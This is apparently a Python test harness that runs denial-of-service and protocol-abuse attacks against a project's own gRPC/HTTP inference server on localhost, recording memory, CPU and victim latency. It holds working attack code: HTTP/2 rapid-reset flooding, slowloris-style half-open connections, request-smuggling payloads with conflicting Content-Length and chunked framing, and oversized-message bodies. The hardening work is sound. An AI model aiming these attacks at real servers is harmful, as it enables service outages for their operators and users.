"""The attacks of issue 10, each a function returning what it measured.

Every attack takes `launch`, a callable that starts a Server with the pod
flags plus the extra flags it is given (launch(("--shutdown_grace=5s",))),
then keyword parameters with small defaults (each attack < 30 s, except
`metrics`, bounded by its 60 s GET). It returns a dict of numbers that
json.dumps can print: RSS baseline/peak/after in MiB, codes, timings. It
kills every server it starts. Only 127.0.0.1 is ever contacted.
"""

import json
import os
import signal
import socket
import struct
import tempfile
import threading
import time
import urllib.request

import grpc

from harness import (FLAG_END_HEADERS, FRAME_HEADERS, FRAME_RST, HEALTH_CHECK,
                     HEALTH_WATCH, HOST, HTTP_FLAGS, INFER_PATH, MIB, RELU,
                     RELU_STREAM, H2Client, RawH2, RssSampler, VictimThread,
                     _r, channel, code_name, frame, grpc_frame, health_request,
                     http_exchange, http_post, http_victim, infer_json,
                     oip_pb2, pb2, raw_unary, relu_expected, relu_request,
                     stateless_header_block, victim)

TOKEN = "adversarial-token"


def _bytes_of_mib(mib):
    return int(mib * MIB)


def unread_responses(launch, calls=200, message_mib=3.8, hold_s=3.0,
                     send_timeout_s=20.0, victim_calls=20, victim_deadline_s=2.0):
    """Issue 10 #1: unary Relu calls whose responses are never read.

    One connection announces SETTINGS_INITIAL_WINDOW_SIZE 0 and never sends
    WINDOW_UPDATE, sends `calls` Relu requests of `message_mib` FLOAT32, then
    holds; a victim on another connection calls meanwhile.
    """
    request = grpc_frame(relu_request(nbytes=_bytes_of_mib(message_mib)))
    with launch() as server, RssSampler(server) as rss:
        client = H2Client(server.port, initial_window=0, ack_data=False)
        start = time.monotonic()
        deadline = start + send_timeout_s
        sids, complete = [], 0
        for _ in range(calls):
            if time.monotonic() > deadline or client.closed:
                break
            sid = client.open_stream(RELU)
            sids.append(sid)
            if client.send(sid, request, end_stream=True,
                           deadline=deadline) == len(request):
                complete += 1
        send_s = time.monotonic() - start
        time.sleep(0.5)
        inflight = server.metric("activation_inflight_requests")
        victim_result = victim(server.target, calls=victim_calls,
                               deadline=victim_deadline_s)
        time.sleep(max(0.0, hold_s - 0.5))
        held_rss = rss.current()
        statuses = client.status_counts(sids)
        goaway = client.goaway
        client.close()
        time.sleep(2.0)
        result = rss.summary()
    result.update({
        "calls_opened": len(sids), "calls_fully_sent": complete,
        "send_s": round(send_s, 2), "rss_held_mib": _r(held_rss),
        "inflight_metric_while_held": inflight,
        "attacker_statuses": statuses, "goaway": goaway,
        "victim": victim_result})
    return result


def idle_streams(launch, streams=48, settle_s=0.5, victim_calls=20,
                 victim_deadline_s=2.0, shutdown_grace="5s"):
    """Issue 10 #2: ReluStream calls that send HEADERS and nothing else.

    Then a victim calls from another connection, then SIGTERM: how long the
    server takes to exit while the idle streams stay open.
    """
    with launch((f"--shutdown_grace={shutdown_grace}",)) as server, \
            RssSampler(server) as rss:
        client = H2Client(server.port)
        sids = [client.open_stream(RELU_STREAM) for _ in range(streams)]
        time.sleep(settle_s)
        answered_early = client.status_counts(sids)
        inflight = server.metric("activation_inflight_requests")
        victim_result = victim(server.target, calls=victim_calls,
                               deadline=victim_deadline_s)
        result = rss.summary()
        shutdown_s = server.stop(signal.SIGTERM, timeout=30.0)
        client.wait(lambda: all(client.status(s) for s in sids), 1.0)
        statuses = client.status_counts(sids)
        goaway = client.goaway
        client.close()
    result.update({
        "streams": streams, "inflight_metric": inflight,
        "idle_statuses_before_sigterm": answered_early,
        "victim": victim_result,
        "sigterm_to_exit_s": None if shutdown_s is None else round(shutdown_s, 2),
        "idle_statuses_after_sigterm": statuses, "goaway": goaway,
        "attacker_connection_end": client.error})
    return result


def _token_flag(server_dir):
    path = os.path.join(server_dir, "token")
    with open(path, "w") as f:
        f.write(TOKEN + "\n")
    return f"--auth_token_file={path}"


def auth_partial(launch, streams=100, message_mib=3.8, sent_mib=3.0,
                 hold_s=5.0, send_timeout_s=20.0, victim_calls=5,
                 victim_deadline_s=2.0):
    """Issue 10 #3a: unauthenticated calls that send most of a message.

    With --auth_token_file, `streams` Relu calls carry no token, declare a
    `message_mib` message and send `sent_mib` of it, then hold `hold_s`.
    """
    workdir = _workdir()
    message = grpc_frame(relu_request(nbytes=_bytes_of_mib(message_mib)))
    partial = message[:_bytes_of_mib(sent_mib)]
    with launch((_token_flag(workdir),)) as server, RssSampler(server) as rss:
        client = H2Client(server.port)
        start = time.monotonic()
        deadline = start + send_timeout_s
        sids, sent_total = [], 0
        for _ in range(streams):
            if time.monotonic() > deadline or client.closed:
                break
            sid = client.open_stream(RELU)
            sids.append(sid)
            sent_total += client.send(sid, partial, deadline=deadline)
        send_s = time.monotonic() - start
        early = client.status_counts(sids)
        hold_start_rss = rss.current()
        time.sleep(hold_s)
        held_rss = rss.current()
        victim_result = victim(server.target, calls=victim_calls,
                               deadline=victim_deadline_s, token=TOKEN)
        statuses = client.status_counts(sids)
        client.close()
        time.sleep(2.0)
        result = rss.summary()
    result.update({
        "streams_opened": len(sids), "mib_sent": round(sent_total / MIB, 1),
        "send_s": round(send_s, 2), "statuses_after_send": early,
        "rss_hold_start_mib": _r(hold_start_rss),
        "rss_after_hold_mib": _r(held_rss),
        "statuses_after_hold": statuses, "victim_with_token": victim_result})
    return result


def auth_large(launch, calls=8, message_mib=60.0, timeout_s=25.0):
    """Issue 10 #3b: `calls` concurrent unauthenticated calls of message_mib.

    Runs with --max_message_bytes=67108864 so the size limit is not what
    refuses them.
    """
    workdir = _workdir()
    request = relu_request(nbytes=_bytes_of_mib(message_mib))
    flags = (_token_flag(workdir), "--max_message_bytes=67108864")
    with launch(flags) as server, RssSampler(server) as rss:
        codes, messages, times = {}, set(), []
        with channel(server.target) as chan:
            relu = raw_unary(chan, RELU)
            start = time.monotonic()
            futures = [relu.future(request, timeout=timeout_s)
                       for _ in range(calls)]
            for future in futures:
                try:
                    future.result()
                    code = "OK"
                except grpc.RpcError as e:
                    code = code_name(e.code())
                    messages.add(e.details())
                times.append(time.monotonic() - start)
                codes[code] = codes.get(code, 0) + 1
        time.sleep(1.0)
        result = rss.summary()
    result.update({"calls": calls, "message_mib": message_mib, "codes": codes,
                   "messages": sorted(m or "" for m in messages),
                   "last_answer_s": round(max(times), 2)})
    return result


def rapid_reset(launch, seconds=3.0, max_pairs=100_000, batch=100, lag=0,
                victim_calls=20, victim_deadline_s=2.0, idle_timeout_s=20.0):
    """Issue 10 #4: HTTP/2 rapid reset (CVE-2023-44487).

    One connection opens a Relu stream (HEADERS, no END_STREAM) and resets it
    (RST_STREAM CANCEL) at once, or, with `lag` > 0, `lag` streams later (so
    that many are open at a time), written `batch` pairs per write, for
    `seconds` or `max_pairs`. A victim calls during and after.
    """
    with launch() as server, RssSampler(server) as rss:
        block = stateless_header_block(RELU, server.port)
        rst_payload = (8).to_bytes(4, "big")  # CANCEL
        client = RawH2(server.port)
        cpu_before = server.cpu_seconds()
        during = VictimThread(server.target, calls=victim_calls,
                              deadline=victim_deadline_s)
        during.start()
        start = time.monotonic()
        sid, pairs, write_error = 1, 0, None
        while pairs < max_pairs and time.monotonic() - start < seconds:
            chunk = bytearray()
            for _ in range(min(batch, max_pairs - pairs)):
                chunk += frame(FRAME_HEADERS, FLAG_END_HEADERS, sid, block)
                if sid - 2 * lag > 0:
                    chunk += frame(FRAME_RST, 0, sid - 2 * lag, rst_payload)
                sid += 2
                pairs += 1
            try:
                client.write(bytes(chunk))
            except OSError as e:
                write_error = repr(e)
                break
        flood_s = time.monotonic() - start
        cpu_flood = server.cpu_seconds() - cpu_before
        rss_end_flood = rss.current()
        during.join(victim_deadline_s * (victim_calls + 2))
        goaway = client.goaway
        frames = {str(k): v for k, v in client.frames.items()}
        client.close()
        idle_after_s = server.wait_cpu_idle(timeout=idle_timeout_s)
        cpu_total = server.cpu_seconds() - cpu_before
        after = victim(server.target, calls=victim_calls,
                       deadline=victim_deadline_s)
        result = rss.summary()
    result.update({
        "pairs_sent": pairs, "flood_s": round(flood_s, 2),
        "pairs_per_s": round(pairs / flood_s), "write_error": write_error,
        "goaway": goaway, "frames_received_by_type": frames,
        "server_cpu_during_flood_s": round(cpu_flood, 2),
        "server_cpu_until_idle_s": round(cpu_total, 2),
        "idle_after_close_s": round(idle_after_s, 2),
        "rss_end_of_flood_mib": _r(rss_end_flood),
        "victim_during": during.result, "victim_after": after})
    return result


def rank(launch, dims=4_000_000, raw_bytes=4, mismatch_raw_bytes=8,
         metadata_limit_mib=256):
    """Issue 10 #5: a shape of `dims` dimensions of size 1, a tiny payload.

    Two calls on one server: raw_data of `raw_bytes` (4: valid, one float)
    and of `mismatch_raw_bytes` (wrong size, so the error describes the
    shape). Raises --max_message_bytes to 134217728 when the request needs
    it. The client accepts up to `metadata_limit_mib` of trailers so a huge
    error message arrives whole and can be measured.
    """
    requests = {
        "valid": relu_request(shape=[1] * dims, raw=b"\x00\x00\x80\x3f" *
                              (raw_bytes // 4) + b"\x00" * (raw_bytes % 4)),
        "mismatch": relu_request(shape=[1] * dims,
                                 raw=b"\x00" * mismatch_raw_bytes)}
    largest = max(len(r) for r in requests.values())
    flags = () if largest + 5 <= 4194304 else ("--max_message_bytes=134217728",)
    result = {"dims": dims, "request_bytes": largest}
    with launch(flags) as server, RssSampler(server) as rss:
        with channel(server.target, max_metadata=metadata_limit_mib * MIB) as chan:
            for case, request in requests.items():
                cpu_before = server.cpu_seconds()
                start = time.monotonic()
                reply = b""
                try:
                    reply = raw_unary(chan, RELU)(request, timeout=25.0)
                    code, details = "OK", ""
                except grpc.RpcError as e:
                    code, details = code_name(e.code()), e.details() or ""
                result[case] = {
                    "code": code, "call_s": round(time.monotonic() - start, 2),
                    "server_cpu_s": round(server.cpu_seconds() - cpu_before, 2),
                    "response_bytes": len(reply),
                    "error_message_bytes": len(details.encode()),
                    "error_message_head": details[:100],
                    "rss_mib": _r(rss.current())}
        # The same mismatch over raw HTTP/2: the grpc-message as sent, without
        # grpcio's 16 MiB cap on received metadata.
        client = H2Client(server.port, max_header_list=1 << 30)
        sid = client.open_stream(RELU)
        start = time.monotonic()
        client.send(sid, grpc_frame(requests["mismatch"]), end_stream=True,
                    deadline=start + 25)
        client.wait(lambda: client.status(sid), 25)
        result["mismatch_raw_h2"] = {
            "status": client.status(sid),
            "grpc_message_wire_bytes": len(client.message(sid) or b""),
            "call_s": round(time.monotonic() - start, 2)}
        client.close()
        time.sleep(1.0)
        result.update(rss.summary())
    return result


def health(launch, check_name_bytes=4_000_000, watch_streams=100,
           watch_name_mib=3.8, hold_s=5.0, victim_calls=5,
           victim_deadline_s=2.0, metadata_limit_mib=64):
    """Issue 10 #6: health Check with a huge name; many Watch with huge names.

    Check's error message is received whole (client accepts up to
    `metadata_limit_mib` of trailers) and measured. Then `watch_streams`
    Watch calls with `watch_name_mib` names are held for `hold_s`.
    """
    check = health_request(b"c" * check_name_bytes)
    watch = health_request(b"w" * _bytes_of_mib(watch_name_mib))
    with launch() as server, RssSampler(server) as rss:
        with channel(server.target, max_metadata=metadata_limit_mib * MIB) as chan:
            start = time.monotonic()
            try:
                raw_unary(chan, HEALTH_CHECK)(check, timeout=10.0)
                check_code, details = "OK", ""
            except grpc.RpcError as e:
                check_code, details = code_name(e.code()), e.details() or ""
            check_s = time.monotonic() - start
        rss_after_check = rss.current()
        first_messages = [0]
        with channel(server.target) as chan:
            watch_call = chan.unary_stream(HEALTH_WATCH, request_serializer=None,
                                           response_deserializer=None)
            calls = [watch_call(watch, timeout=hold_s + 20)
                     for _ in range(watch_streams)]
            readers = [threading.Thread(target=_first_message,
                                        args=(c, first_messages), daemon=True)
                       for c in calls]
            for t in readers:
                t.start()
            time.sleep(hold_s)
            held_rss = rss.current()
            victim_result = victim(server.target, calls=victim_calls,
                                   deadline=victim_deadline_s)
            for c in calls:
                c.cancel()
            for t in readers:
                t.join(2)
        time.sleep(2.0)
        result = rss.summary()
    result.update({
        "check_name_bytes": check_name_bytes, "check_code": check_code,
        "check_error_message_bytes": len(details.encode()),
        "check_error_message_head": details[:80], "check_s": round(check_s, 2),
        "rss_after_check_mib": _r(rss_after_check),
        "watch_streams": watch_streams, "watch_name_mib": watch_name_mib,
        "watch_first_messages": first_messages[0],
        "rss_watch_held_mib": _r(held_rss), "victim": victim_result})
    return result


def _first_message(call, counter):
    try:
        for _ in call:
            counter[0] += 1
            break
        for _ in call:
            pass
    except grpc.RpcError:
        pass


def metrics(launch, connections=2, get_timeout_s=60.0, settle_s=0.5):
    """Issue 10 #7: half-sent HTTP requests held open on the metrics port.

    Opens `connections` TCP connections that send only the request line and
    one header, then times a normal GET /metrics.
    """
    half = b"GET /metrics HTTP/1.1\r\nHost: x\r\n"
    with launch() as server, RssSampler(server) as rss:
        url = f"http://{HOST}:{server.metrics_port}/metrics"
        start = time.monotonic()
        urllib.request.urlopen(url, timeout=10).read()
        control_s = time.monotonic() - start
        socks = []
        for _ in range(connections):
            s = socket.create_connection((HOST, server.metrics_port), timeout=5)
            s.sendall(half)
            socks.append(s)
        time.sleep(settle_s)
        start = time.monotonic()
        try:
            with urllib.request.urlopen(url, timeout=get_timeout_s) as response:
                status, nbytes = response.status, len(response.read())
        except OSError as e:
            status, nbytes = repr(e), 0
        get_s = time.monotonic() - start
        answers = {}
        for s in socks:
            answer = _peer_answer(s)
            answers[answer] = answers.get(answer, 0) + 1
        for s in socks:
            s.close()
        result = rss.summary()
    result.update({
        "half_open_connections": connections,
        "control_get_s": round(control_s, 3), "get_status": status,
        "get_bytes": nbytes, "get_s": round(get_s, 2),
        "half_open_answers": answers})
    return result


def _peer_answer(sock):
    """Returns what the server sent on a half-open socket: its first line,
    "closed" (EOF with nothing) or "nothing yet"."""
    sock.setblocking(False)
    try:
        data = sock.recv(1 << 16)
    except BlockingIOError:
        return "nothing yet"
    except OSError as e:
        return repr(e)
    return data.split(b"\r\n", 1)[0].decode(errors="replace") if data else "closed"


def drain(launch, runs=6, threads=4, elements=1024, sigterm_after_s=1.0,
          call_deadline_s=5.0, after_exit_s=0.2, shutdown_grace="5s",
          retry=0):
    """Issue 10 #8: SIGTERM under load from `threads` looping Relu clients.

    Per run: start a server with --shutdown_grace, let each thread call in a
    loop on its own connection for `sigterm_after_s`, send SIGTERM, keep
    calling until `after_exit_s` after the server exited. Counts each thread's
    codes by the phase the call ended in (load, draining: SIGTERM sent,
    exited) and checks every OK answer exactly. With `retry`, the clients
    retry UNAVAILABLE with backoff, as activation::Client does.
    """
    request = relu_request(elements=elements)
    expected = relu_expected(elements)
    results = []
    for _ in range(runs):
        with launch((f"--shutdown_grace={shutdown_grace}",)) as server:
            phase = ["load"]
            per_thread = [{} for _ in range(threads)]
            wrong = [0] * threads

            def worker(i):
                counts = per_thread[i]
                with channel(server.target, retry=bool(retry)) as chan:
                    relu = raw_unary(chan, RELU)
                    while phase[0] != "stop":
                        try:
                            reply = relu(request, timeout=call_deadline_s)
                            code = "OK"
                            if pb2().ReluResponse.FromString(
                                    reply).output.raw_data != expected:
                                wrong[i] += 1
                        except grpc.RpcError as e:
                            code = code_name(e.code())
                        key = f"{phase[0].replace('stop', 'exited')}:{code}"
                        counts[key] = counts.get(key, 0) + 1

            workers = [threading.Thread(target=worker, args=(i,), daemon=True)
                       for i in range(threads)]
            for w in workers:
                w.start()
            time.sleep(sigterm_after_s)
            phase[0] = "draining"
            shutdown_s = server.stop(signal.SIGTERM, timeout=30.0)
            phase[0] = "exited"
            time.sleep(after_exit_s)
            phase[0] = "stop"
            for w in workers:
                w.join(call_deadline_s + 2)
        total = {}
        for counts in per_thread:
            for key, n in counts.items():
                total[key] = total.get(key, 0) + n
        results.append({
            "per_thread": per_thread, "total": total, "wrong_ok": sum(wrong),
            "sigterm_to_exit_s": None if shutdown_s is None else round(shutdown_s, 2)})

    def code_total(code):
        return sum(n for r in results for key, n in r["total"].items()
                   if key.endswith(":" + code))
    return {"runs": results,
            "runs_with_cancelled": sum(
                1 for r in results
                if any(k.endswith(":CANCELLED") for k in r["total"])),
            "cancelled_total": code_total("CANCELLED"),
            "codes_seen": sorted({k.split(":")[1] for r in results
                                  for k in r["total"]}),
            "wrong_ok_total": sum(r["wrong_ok"] for r in results)}


def malformed(launch, payload_hex="ffffff"):
    """Issue 10 #9: a Relu call whose message is not a valid protobuf."""
    payload = bytes.fromhex(payload_hex)
    with launch() as server, RssSampler(server) as rss:
        with channel(server.target) as chan:
            start = time.monotonic()
            try:
                raw_unary(chan, RELU)(payload, timeout=5.0)
                code, details = "OK", ""
            except grpc.RpcError as e:
                code, details = code_name(e.code()), e.details()
            elapsed = time.monotonic() - start
            info = victim(server.target, calls=1)
        result = rss.summary()
    result.update({"payload_hex": payload_hex, "code": code,
                   "message": details, "call_s": round(elapsed, 3),
                   "server_still_serves": info})
    return result


# --- The Open Inference Protocol fronts (HTTP/REST and gRPC) --------------

def _summary(response):
    """Returns a response's status and the start of its body, for a report."""
    if response is None:
        return {"status": None, "body": ""}
    return {"status": response["status"],
            "body": response["body"][:160].decode(errors="replace")}


def http_duplicate_datatype(launch, elements=1_000_000):
    """An infer body whose input names its "datatype" twice, after "data".

    The values are converted as the first datatype (INT8 or FP32: 1 or 4
    bytes each) and computed as the second (FP64: 8 bytes each). A small one
    (2 FP32 values) shows what the answer holds; a large one (`elements`
    INT8 values) what the server does. Then a victim, if it still runs.
    """
    small = (b'{"inputs":[{"name":"input","datatype":"FP32","shape":[2],'
             b'"data":[1.5,2.5],"datatype":"FP64"}]}')
    large = (b'{"inputs":[{"name":"input","datatype":"INT8","shape":[%d],'
             b'"data":[' % elements + b",".join([b"1"] * elements) +
             b'],"datatype":"FP64"}]}')
    with launch(HTTP_FLAGS) as server:
        answers = {}
        for name, body in (("small", small), ("large", large)):
            responses, _ = http_exchange(server.http_port,
                                         http_post(INFER_PATH, body))
            answers[name] = _summary(responses[0] if responses else None)
        time.sleep(0.5)
        alive = server.alive()
        exit_code = server.process.poll()
        after = http_victim(server.http_port, calls=3) if alive else None
    return {"elements": elements, "small": answers["small"],
            "large": answers["large"], "alive": alive,
            "exit_code": exit_code, "victim_after": after}


def _decode_heavy_body(kind, size):
    """Returns (body, extra headers) of about `size` bytes that is costly to
    decode or answer: `tokens`, FP64 values "0," before the datatype (kept
    as 16-byte string_views until it comes); `values`, the same after it (8
    bytes decoded per 2 of JSON); `json_answer`, FP16 binary input answered
    as JSON (2 bytes in, "6.1035156e-05," out)."""
    if kind in ("tokens", "values"):
        head = b'{"inputs":[{"name":"input","shape":[%d],'
        if kind == "values":
            head += b'"datatype":"FP64",'
        head += b'"data":['
        tail = b']}]}' if kind == "values" else b'],"datatype":"FP64"}]}'
        n = (size - len(head) - len(tail) - 16) // 2
        return (head % n) + b"0," * (n - 1) + b"0" + tail, ()
    if kind == "json_answer":
        n = (size - 200) // 2
        header = (b'{"inputs":[{"name":"input","shape":[%d],"datatype":"FP16",'
                  b'"parameters":{"binary_data_size":%d}}]}' % (n, 2 * n))
        return (header + struct.pack("<H", 0x0401) * n,
                (("Inference-Header-Content-Length", str(len(header))),))
    raise ValueError(kind)


def http_decode_memory(launch, kind="tokens", connections=32,
                       message_bytes=4194304, timeout_s=30.0):
    """`connections` (--http_threads) concurrent infer bodies of
    `message_bytes` (--max_message_bytes) each, costly to decode or to
    answer (_decode_heavy_body `kind`), answers read in full. The bodies
    alone may take connections x message_bytes outside the memory budget
    (docs/oip.md); what the decode and the answer add should be inside it.
    """
    body, headers = _decode_heavy_body(kind, message_bytes)
    request = http_post(INFER_PATH, body, headers)
    statuses, lock = {}, threading.Lock()

    def attack(port):
        try:
            responses, _ = http_exchange(port, request, timeout=timeout_s)
            status = responses[0]["status"] if responses else None
        except OSError:
            status = None
        with lock:
            statuses[status] = statuses.get(status, 0) + 1

    with launch(HTTP_FLAGS) as server, RssSampler(server) as rss:
        before = server.resources()
        threads = [threading.Thread(target=attack, args=(server.http_port,))
                   for _ in range(connections)]
        start = time.monotonic()
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        attack_s = time.monotonic() - start
        after_victim = http_victim(server.http_port, calls=3)
        time.sleep(1.0)
        result = rss.summary()
        after = server.resources()
    result.update({"kind": kind, "connections": connections,
                   "body_bytes": len(body), "statuses": statuses,
                   "attack_s": round(attack_s, 2),
                   "resources_before": before, "resources_after": after,
                   "victim_after": after_victim})
    return result


def http_framing(launch):
    """Bodies framed two ways at once, each followed on the same connection
    by a second request (GET /v2) that an intermediary would not see:
    `duplicate_length` (Content-Length: N and Content-Length: 5),
    `length_and_chunked` (Content-Length: 5 and Transfer-Encoding: chunked),
    `bad_chunk` (a valid chunk, then the size "zz"), `cut_chunked` (a valid
    chunk, then the client ends the stream), and `nul_in_path`
    (GET /v2/models/relu%00x). Reports each case's statuses, in order."""
    body = infer_json([1.0, -1.0])
    smuggled = f"GET /v2 HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode()
    chunk = b"%x\r\n" % len(body) + body + b"\r\n"
    cases = {
        "duplicate_length": http_post(
            INFER_PATH, body, (("Content-Length", str(len(body))),
                               ("Content-Length", "5")), close=False)
        + smuggled,
        "length_and_chunked": http_post(
            INFER_PATH, chunk + b"0\r\n\r\n",
            (("Content-Length", "5"), ("Transfer-Encoding", "chunked")),
            close=False) + smuggled,
        "bad_chunk": http_post(INFER_PATH, chunk + b"zz\r\n",
                               (("Transfer-Encoding", "chunked"),),
                               close=False) + smuggled,
        "cut_chunked": http_post(INFER_PATH, chunk,
                                 (("Transfer-Encoding", "chunked"),),
                                 close=False),
        "nul_in_path": (f"GET /v2/models/relu%00x HTTP/1.1\r\nHost: {HOST}"
                        "\r\nConnection: close\r\n\r\n").encode(),
    }
    result = {}
    with launch(HTTP_FLAGS) as server:
        for name, data in cases.items():
            responses, closed = http_exchange(server.http_port, data,
                                              timeout=5.0)
            result[name] = {
                "statuses": [r["status"] for r in responses],
                "first": _summary(responses[0] if responses else None)}
        result["victim_after"] = http_victim(server.http_port, calls=3)
    return result


def http_answer_memory(launch, connections=32, message_bytes=4194304,
                       timeout_s=30.0):
    """http_decode_memory with kind json_answer: FP16 binary input whose
    answer is JSON, ~7 bytes out per byte in."""
    return http_decode_memory(launch, "json_answer", connections,
                              message_bytes, timeout_s)


def http_connection_flood(launch, connections=64, threads=32,
                          request_timeout_s=2.0, hold_s=3.0,
                          victim_timeout_s=12.0):
    """`connections` (2x --http_threads) connections that send half a
    request line and hold it `hold_s` s (the server reads requests within
    `request_timeout_s`); a gRPC victim meanwhile, one REST call timed (up
    to `victim_timeout_s`); then all close, and the server's fds, threads and
    a REST victim are measured once it settled."""
    flags = (*HTTP_FLAGS, f"--http_threads={threads}",
             f"--http_request_timeout={request_timeout_s}s")
    with launch(flags) as server, RssSampler(server) as rss:
        time.sleep(0.3)
        before = server.resources()
        socks = []
        for _ in range(connections):
            s = socket.create_connection((HOST, server.http_port), timeout=5)
            s.sendall(b"POST /v2/models/relu/infer HTTP/1.1\r\nHost")
            socks.append(s)
        time.sleep(0.5)
        during = server.resources()
        grpc_victim = victim(server.target, calls=10)
        start = time.monotonic()
        responses, _ = http_exchange(
            server.http_port,
            (f"GET /v2/health/ready HTTP/1.1\r\nHost: {HOST}\r\n"
             "Connection: close\r\n\r\n").encode(), timeout=victim_timeout_s)
        rest_during_s = time.monotonic() - start
        rest_during = responses[0]["status"] if responses else None
        time.sleep(max(0.0, hold_s - (time.monotonic() - start)))
        for s in socks:
            s.close()
        time.sleep(1.5)
        after = server.resources()
        rest_after = http_victim(server.http_port, calls=5)
        result = rss.summary()
    result.update({"connections": connections, "threads": threads,
                   "request_timeout_s": request_timeout_s,
                   "resources_before": before, "resources_during": during,
                   "resources_after": after, "grpc_victim_during": grpc_victim,
                   "rest_victim_during": rest_during,
                   "rest_victim_during_s": round(rest_during_s, 2),
                   "rest_victim_after": rest_after})
    return result


def http_pipeline(launch, requests=2000):
    """`requests` infer requests pipelined on one kept-alive connection in
    one write, each with its own id and values; every answer checked: in
    order, its id, its values exact."""
    data = bytearray()
    for i in range(requests):
        body = infer_json([float(i), -1.0], extra=',"id":"r%d"' % i)
        data += http_post(INFER_PATH, body, close=(i == requests - 1))
    with launch(HTTP_FLAGS) as server:
        start = time.monotonic()
        responses, closed = http_exchange(server.http_port, bytes(data),
                                          timeout=15.0, shut_write=False)
        elapsed = time.monotonic() - start
        wrong = 0
        for i, r in enumerate(responses):
            try:
                answer = json.loads(r["body"])
                ok = (r["status"] == 200 and answer["id"] == "r%d" % i
                      and answer["outputs"][0]["data"] == [float(i), 0])
            except (ValueError, KeyError, IndexError):
                ok = False
            wrong += not ok
        resources = server.resources()
    return {"requests": requests, "answers": len(responses),
            "wrong_or_out_of_order": wrong, "closed_by_server": closed,
            "elapsed_s": round(elapsed, 2), "resources": resources}


def oip_stream_flood(launch, requests=20000, id_bytes=1000):
    """One ModelStreamInfer stream of `requests` bad requests (an unknown
    datatype, an id of `id_bytes`), each answered in-band; a gRPC victim
    meanwhile. Counts answers, error messages and the log lines added."""
    m, stubs = oip_pb2()
    bad = m.ModelInferRequest(model_name="relu", id="x" * id_bytes)
    bad.inputs.add(name="input", datatype="NOPE", shape=[1])
    with launch() as server, RssSampler(server) as rss:
        lines_before = len(server.log_lines())
        with channel(server.target) as chan:
            stub = stubs.GRPCInferenceServiceStub(chan)
            victim_thread = VictimThread(server.target, calls=20)
            answers, in_band, ids_ok, code = 0, 0, 0, "OK"
            start = time.monotonic()
            try:
                stream = stub.ModelStreamInfer(iter([bad] * requests),
                                               timeout=30.0)
                victim_thread.start()
                for response in stream:
                    answers += 1
                    in_band += bool(response.error_message)
                    ids_ok += response.infer_response.id == bad.id
            except grpc.RpcError as e:
                code = code_name(e.code())
            elapsed = time.monotonic() - start
            victim_thread.join(30)
        time.sleep(0.5)
        lines_added = len(server.log_lines()) - lines_before
        result = rss.summary()
    result.update({"requests": requests, "answers": answers,
                   "answers_in_band": in_band, "ids_echoed": ids_ok,
                   "stream_code": code, "elapsed_s": round(elapsed, 2),
                   "log_lines_added": lines_added,
                   "victim": victim_thread.result})
    return result


def _workdir():
    return tempfile.mkdtemp(prefix="adversarial-")


ATTACKS = {
    "unread": unread_responses,
    "idle": idle_streams,
    "auth-partial": auth_partial,
    "auth-large": auth_large,
    "reset": rapid_reset,
    "rank": rank,
    "health": health,
    "metrics": metrics,
    "drain": drain,
    "malformed": malformed,
    "http-duplicate-datatype": http_duplicate_datatype,
    "http-decode-memory": http_decode_memory,
    "http-answer-memory": http_answer_memory,
    "http-framing": http_framing,
    "http-connection-flood": http_connection_flood,
    "http-pipeline": http_pipeline,
    "oip-stream-flood": oip_stream_flood,
}
